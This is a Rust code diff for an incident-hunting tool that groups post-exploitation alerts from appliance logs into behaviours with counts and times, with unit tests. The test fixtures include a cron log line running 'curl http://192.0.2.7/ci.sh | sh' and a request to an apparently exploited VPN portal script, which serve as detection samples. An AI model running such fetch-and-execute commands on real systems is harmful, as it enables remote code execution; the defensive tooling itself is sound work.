@@ -16,6 +16,8 @@ use crate::detect::Alert;
 const MAX_ACTIVITY: usize = 100_000;
 /// Evidence lines kept per finding.
 const MAX_EVIDENCE: usize = 5;
+/// Alert ids listed per behaviour.
+const MAX_BEHAVIOUR_ALERTS: usize = 20;
 
 #[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize)]
 #[serde(rename_all = "kebab-case")]
@@ -68,6 +70,24 @@ pub struct Finding {
     pub stage: &'static str,
     pub rule: String,
     pub alert_id: String,
+    pub evidence: Vec<String>,
+}
+
+/// One post-exploitation behaviour — the same rule on the same command, URL or file — however often
+/// it was seen: the report lists it once, with its count and its first and last time.
+#[derive(Debug, Clone, PartialEq, Serialize)]
+pub struct Behaviour {
+    pub stage: &'static str,
+    pub rule: String,
+    /// What was done: the command line, URL or file of the alerts (else their first evidence line).
+    pub behaviour: String,
+    /// Matches, suppressed repeats included.
+    pub count: u64,
+    pub first: String,
+    pub last: String,
+    /// The distinct alerts (event.id), earliest first; at most `MAX_BEHAVIOUR_ALERTS`.
+    pub alert_ids: Vec<String>,
+    /// The evidence of the earliest alert.
     pub evidence: Vec<String>,
 }
 
@@ -129,7 +149,10 @@ pub struct ApplianceReport {
     pub first_probe: Option<Finding>,
     pub first_exploit_attempt: Option<Finding>,
     pub first_likely_success: Option<Finding>,
+    /// Each post-exploitation alert once (a suppression summary repeats its alert's id).
     pub post_exploitation: Vec<Finding>,
+    /// The same, grouped by behaviour.
+    pub behaviours: Vec<Behaviour>,
     pub window: Option<Window>,
     pub sources: Vec<Source>,
     pub sessions_in_window: Vec<Session>,
@@ -164,7 +187,8 @@ struct Activity {
     probe: Option<(DateTime<Utc>, Finding)>,
     attempt: Option<(DateTime<Utc>, Finding)>,
     success: Option<(DateTime<Utc>, Finding)>,
-    post: Vec<(DateTime<Utc>, Finding)>,
+    /// Post-exploitation alerts: time, finding, behaviour, matches (`gatewatch.count`).
+    post: Vec<(DateTime<Utc>, Finding, String, u64)>,
     anomalies: Vec<(DateTime<Utc>, Finding)>,
     others: BTreeMap<&'static str, u64>,
     sources: BTreeMap<String, (DateTime<Utc>, DateTime<Utc>, Source)>,
@@ -281,7 +305,11 @@ impl Hunt {
             Stage::Probe => keep_first(&mut a.probe, finding),
             Stage::ExploitAttempt => keep_first(&mut a.attempt, finding),
             Stage::ExploitSuccess | Stage::SessionHijack => keep_first(&mut a.success, finding),
-            Stage::PostExploitation => a.post.push((at, finding)),
+            Stage::PostExploitation => {
+                let behaviour = finding.evidence.first().map(|e| behaviour_of(e)).unwrap_or_default();
+                let count = path(doc, "gatewatch.count").and_then(Json::as_u64).unwrap_or(1).max(1);
+                a.post.push((at, finding, behaviour, count))
+            }
             Stage::Anomaly => a.anomalies.push((at, finding)),
             Stage::IocMatch | Stage::AuthAbuse => *a.others.entry(alert.stage.as_str()).or_default() += 1,
         }
@@ -332,6 +360,15 @@ fn appliance_report(
     range_end: Option<DateTime<Utc>>,
 ) -> ApplianceReport {
     a.post.sort_by(|x, y| x.0.cmp(&y.0).then_with(|| x.1.alert_id.cmp(&y.1.alert_id)));
+    // A suppression summary is its first alert again (same id) with the window's count: keep one.
+    let mut counts: BTreeMap<String, u64> = BTreeMap::new();
+    for (_, f, _, n) in &a.post {
+        let c = counts.entry(f.alert_id.clone()).or_default();
+        *c = (*c).max(*n);
+    }
+    let mut seen = BTreeSet::new();
+    a.post.retain(|(_, f, _, _)| seen.insert(f.alert_id.clone()));
+    let behaviours = group_behaviours(&a.post, &counts);
     a.anomalies.sort_by(|x, y| x.0.cmp(&y.0).then_with(|| x.1.alert_id.cmp(&y.1.alert_id)));
     let mitigated = mitigations.get(&host).copied();
     let mut reasons = Vec::new();
@@ -349,7 +386,7 @@ fn appliance_report(
     if let Some((t, f)) = &a.success {
         raise(Verdict::LikelyCompromised, format!("likely successful exploitation at {} ({})", at_text(*t), f.rule));
     }
-    if let Some((t, f)) = a.post.first() {
+    if let Some((t, f, _, _)) = a.post.first() {
         raise(Verdict::Compromised, format!("post-exploitation activity from {} ({})", at_text(*t), f.rule));
     }
     if let Some(m) = mitigated {
@@ -442,6 +479,7 @@ fn appliance_report(
         first_exploit_attempt: a.attempt.map(|x| x.1),
         first_likely_success: a.success.map(|x| x.1),
         post_exploitation: a.post.into_iter().map(|x| x.1).collect(),
+        behaviours,
         anomalies: a.anomalies.into_iter().filter(|x| window.is_none() || in_window(x.0)).map(|x| x.1).collect(),
         window: window.map(|(s, e, basis)| Window { start: at_text(s), end: at_text(e), basis }),
         sources,
@@ -450,6 +488,55 @@ fn appliance_report(
         other_alerts: a.others,
         mitigated: mitigated.map(at_text),
     }
+}
+
+/// Post-exploitation alerts (one per id, in time order) grouped by (rule, behaviour), in order of
+/// first appearance.
+fn group_behaviours(post: &[(DateTime<Utc>, Finding, String, u64)], counts: &BTreeMap<String, u64>) -> Vec<Behaviour> {
+    let mut groups: Vec<Behaviour> = Vec::new();
+    let mut index: BTreeMap<(String, String), usize> = BTreeMap::new();
+    for (at, f, behaviour, _) in post {
+        let n = counts.get(&f.alert_id).copied().unwrap_or(1);
+        let slot = *index.entry((f.rule.clone(), behaviour.clone())).or_insert_with(|| {
+            groups.push(Behaviour {
+                stage: f.stage,
+                rule: f.rule.clone(),
+                behaviour: behaviour.clone(),
+                count: 0,
+                first: at_text(*at),
+                last: at_text(*at),
+                alert_ids: Vec::new(),
+                evidence: f.evidence.clone(),
+            });
+            groups.len() - 1
+        });
+        let g = &mut groups[slot];
+        g.count += n;
+        g.last = at_text(*at);
+        if g.alert_ids.len() < MAX_BEHAVIOUR_ALERTS {
+            g.alert_ids.push(f.alert_id.clone());
+        }
+    }
+    groups
+}
+
+/// What an evidence line did, without when and by which process instance: the message after a
+/// syslog `program[pid]: ` header (a shell or cron command), else an access log's request line, else
+/// the whole line; whitespace folded.
+fn behaviour_of(evidence: &str) -> String {
+    let what = match evidence.split_once("]: ") {
+        Some((_, message)) => message,
+        None => match evidence.split('"').nth(1) {
+            Some(request) if !request.trim().is_empty() => request,
+            _ => evidence,
+        },
+    };
+    what.split_whitespace().collect::<Vec<_>>().join(" ")
+}
+
+/// Text for one Markdown line: newlines folded, backticks made quotes.
+fn inline(text: &str) -> String {
+    text.split_whitespace().collect::<Vec<_>>().join(" ").replace('`', "'")
 }
 
 fn finding_line(out: &mut String, label: &str, f: &Option<Finding>) {
@@ -512,18 +599,19 @@ impl Report {
             finding_line(&mut out, "First probe", &a.first_probe);
             finding_line(&mut out, "First exploitation attempt", &a.first_exploit_attempt);
             finding_line(&mut out, "First likely success", &a.first_likely_success);
-            if a.post_exploitation.is_empty() {
+            if a.behaviours.is_empty() {
                 let _ = writeln!(out, "- **Post-exploitation evidence:** none");
             } else {
-                let _ = writeln!(out, "- **Post-exploitation evidence:** {} alerts", a.post_exploitation.len());
-                for f in &a.post_exploitation {
-                    let _ = writeln!(
-                        out,
-                        "  - {} `{}`: `{}`",
-                        f.at,
-                        f.rule,
-                        f.evidence.join(" | ").trim().replace('`', "'")
-                    );
+                let matches: u64 = a.behaviours.iter().map(|b| b.count).sum();
+                let _ = writeln!(
+                    out,
+                    "- **Post-exploitation evidence:** {} distinct behaviours ({} alerts, {matches} matches)",
+                    a.behaviours.len(),
+                    a.post_exploitation.len()
+                );
+                for b in &a.behaviours {
+                    let when = if b.first == b.last { b.first.clone() } else { format!("{} → {}", b.first, b.last) };
+                    let _ = writeln!(out, "  - ×{} {when} `{}`: `{}`", b.count, b.rule, inline(&b.behaviour));
                 }
             }
             if !a.sources.is_empty() {
@@ -593,5 +681,88 @@ impl Report {
             }
         }
         out
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use serde_json::json;
+
+    fn post(id: &str, at: &str, line: &str, count: u64) -> Alert {
+        Alert {
+            id: id.into(),
+            rule_id: "gw-post".into(),
+            stage: Stage::PostExploitation,
+            doc: json!({
+                "@timestamp": at,
+                "observer": {"hostname": "adc-a"},
+                "gatewatch": {"count": count, "evidence": [{"original": line}]},
+            }),
+        }
+    }
+
+    #[test]
+    fn repeated_behaviour_is_listed_once_with_its_count_and_first_and_last_time() {
+        let cron = |t: &str, pid: u32| {
+            format!("Jan 19 {t} <cron.info> ns /usr/sbin/cron[{pid}]: (nobody) CMD (curl http://192.0.2.7/ci.sh | sh)")
+        };
+        let mut hunt = Hunt::default();
+        // One alert, then its suppression summary (same id, 3 matches in the window)...
+        hunt.alert(&post("a1", "2020-01-11T02:00:00Z", &cron("02:00:00", 11), 1));
+        hunt.alert(&post("a1", "2020-01-11T02:00:00Z", &cron("02:00:00", 11), 3));
+        // ...the same command an hour later from another cron process, and something else.
+        hunt.alert(&post("a2", "2020-01-11T03:00:00Z", &cron("03:00:00", 12), 1));
+        hunt.alert(&post(
+            "a3",
+            "2020-01-11T02:30:00Z",
+            "Jan 19 02:30:00 <local7.notice> ns bash[7]: root on /dev/pts/0 shell_command=\"id\"",
+            1,
+        ));
+        let header = Report {
+            version: 1,
+            run_id: "r".into(),
+            from: "2020-01-01T00:00:00Z".into(),
+            to: None,
+            exploit_publication: "2020-01-10T00:00:00Z".into(),
+            records: 0,
+            unparsed: 0,
+            alerts: BTreeMap::new(),
+            appliances: Vec::new(),
+        };
+        let publication = "2020-01-10T00:00:00Z".parse().unwrap();
+        let report = hunt.report(header, &BTreeMap::new(), publication, None);
+        let a = &report.appliances[0];
+        let ids: Vec<&str> = a.post_exploitation.iter().map(|f| f.alert_id.as_str()).collect();
+        assert_eq!(ids, ["a1", "a3", "a2"], "each alert once, in time order");
+        let grouped: Vec<(&str, u64, &str, &str)> =
+            a.behaviours.iter().map(|b| (b.behaviour.as_str(), b.count, b.first.as_str(), b.last.as_str())).collect();
+        assert_eq!(
+            grouped,
+            [
+                ("(nobody) CMD (curl http://192.0.2.7/ci.sh | sh)", 4, "2020-01-11T02:00:00Z", "2020-01-11T03:00:00Z"),
+                ("root on /dev/pts/0 shell_command=\"id\"", 1, "2020-01-11T02:30:00Z", "2020-01-11T02:30:00Z"),
+            ]
+        );
+        assert_eq!(a.behaviours[0].alert_ids, ["a1", "a2"]);
+        let md = report.markdown();
+        assert_eq!(md.matches("ci.sh").count(), 1, "{md}");
+        assert!(md.contains("2 distinct behaviours (3 alerts, 5 matches)"), "{md}");
+        assert!(md.contains("×4 2020-01-11T02:00:00Z → 2020-01-11T03:00:00Z"), "{md}");
+    }
+
+    #[test]
+    fn behaviour_drops_the_syslog_header_or_keeps_the_request_line() {
+        assert_eq!(
+            behaviour_of("Jan 1 00:00:00 <cron.info> h /usr/sbin/cron[1]: (nobody) CMD (x)"),
+            "(nobody) CMD (x)"
+        );
+        assert_eq!(
+            behaviour_of(
+                "198.51.100.7 - - [10/Jan/2020:20:05:00 +0000] \"POST /vpns/portal/scripts/newbm.pl HTTP/1.1\" 200 143"
+            ),
+            "POST /vpns/portal/scripts/newbm.pl HTTP/1.1"
+        );
+        assert_eq!(behaviour_of("plain  message\nline"), "plain message line");
     }
 }
